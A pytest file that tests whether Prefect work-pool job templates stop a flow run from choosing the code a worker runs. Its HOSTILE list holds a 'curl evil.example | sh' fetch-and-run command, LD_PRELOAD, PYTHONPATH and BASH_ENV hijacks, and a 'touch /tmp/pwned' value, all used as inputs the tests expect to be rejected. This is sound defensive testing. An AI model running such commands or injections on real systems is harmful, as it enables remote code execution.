"""The work pools' base job templates (deployments/<pool>.json): a flow run cannot choose what a worker executes.

Checked with Prefect's own code: the validation the server applies to a flow run's job variables, and the
templating the worker uses to build its job configuration.
"""

from __future__ import annotations

import json

import pytest
import yaml
from prefect.utilities.schema_tools import is_valid_schema, validate
from prefect.utilities.schema_tools.validation import ValidationError
from prefect.utilities.templating import apply_values
from prefect.workers.process import ProcessJobConfiguration

from tests.conftest import ROOT

pytestmark = pytest.mark.unit
POOLS = ("cpu-pool", "gpu-pool")


def pool_template(pool: str) -> dict:
    """The file `llmpath up` creates the pool from."""
    return json.loads((ROOT / "deployments" / f"{pool}.json").read_text())


# Each of these would let whoever creates a flow run pick the code a worker runs.
HOSTILE = [
    {"command": "sh -c 'curl evil.example | sh'"},
    {"working_dir": "/tmp/planted"},
    {"env": {"LD_PRELOAD": "/tmp/planted.so"}},
    {"env": {"PYTHONPATH": "/tmp/planted"}},
    {"env": {"PATH": "/tmp/planted"}},
    {"env": {"BASH_ENV": "/tmp/planted.sh"}},
    {"env": {"hf_home": "/tmp"}},  # lower case slips past no prefix check
    {"env.PYTHONPATH": "/tmp/planted"},  # Prefect's dotted form of the same
    {"image": "evil/image"},
]


def server_check(template: dict, job_variables: dict) -> None:
    """What the Prefect server does to the merged job variables of a new flow run of a deployment."""
    validate(
        job_variables,
        template["variables"],
        raise_on_error=True,
        preprocess=True,
        ignore_required=False,
        allow_none_with_default=True,
    )


@pytest.mark.parametrize("pool", POOLS)
def test_the_template_has_no_command_or_working_dir_to_set(pool):
    template = pool_template(pool)
    is_valid_schema(template["variables"], preprocess=False)
    assert set(template["job_configuration"]) == {"env", "labels", "name", "stream_output"}
    assert set(template["variables"]["properties"]) == {"env", "labels", "name", "stream_output"}
    assert template["variables"]["additionalProperties"] is False


@pytest.mark.parametrize("pool", POOLS)
@pytest.mark.parametrize("job_variables", HOSTILE, ids=lambda v: next(iter(v)) + str(v.get("env", "")))
def test_the_server_refuses_a_flow_run_that_sets_what_runs(pool, job_variables):
    with pytest.raises(ValidationError, match="(Additional properties|does not match)"):
        server_check(pool_template(pool), job_variables)


@pytest.mark.parametrize("pool", POOLS)
def test_what_prefect_yaml_and_routing_set_is_accepted(pool):
    deployments = yaml.safe_load((ROOT / "prefect.yaml").read_text())["deployments"]
    envs = [d["work_pool"]["job_variables"] for d in deployments if d["work_pool"]["name"] == pool]
    assert envs, pool
    for job_variables in envs:
        server_check(pool_template(pool), job_variables)
    # Shared settings a multi-machine setup passes to the flows (deployments/README.md) stay possible.
    shared = {"MLFLOW_TRACKING_URI": "http://mlflow.internal:5000", "LLMPATH_DATA_DIR": "/data"}
    server_check(pool_template(pool), {"env": shared, "name": "run", "stream_output": False})


@pytest.mark.parametrize("pool", POOLS)
def test_even_unchecked_a_command_has_nowhere_to_go(pool):
    """Were the server lenient (or the pool edited), the worker's templating only fills the template's
    placeholders: a `command` value is dropped and the worker runs its own engine command."""
    template = pool_template(pool)
    values = {"command": "touch /tmp/pwned", "working_dir": "/tmp", "env": {"HF_HUB_OFFLINE": "1"}}
    filled = apply_values(template["job_configuration"], values)
    config = ProcessJobConfiguration(**filled)
    assert config.command is None and config.working_dir is None
    assert config.env == {"HF_HUB_OFFLINE": "1"}
